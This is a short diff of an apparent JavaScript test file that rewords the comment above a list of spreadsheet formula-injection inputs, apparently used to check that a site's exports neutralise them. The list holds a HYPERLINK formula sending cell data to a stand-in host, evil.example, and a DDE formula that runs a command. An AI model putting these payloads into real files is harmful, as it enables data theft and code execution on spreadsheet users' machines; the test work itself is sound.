@@ -6,7 +6,7 @@ const site = await openTestSite();
 afterAll(site.close);
 const admin = await site.admin();
 
-/** What Excel, LibreOffice, Numbers or Google’s sheets would run, or send elsewhere. */
+/** Cells that Excel, LibreOffice, Numbers or Google Sheets would execute, or send elsewhere. */
 const FORMULAS = [
   '=HYPERLINK("https://evil.example/"&A1)',
   '=cmd|" /C calc"!A0',
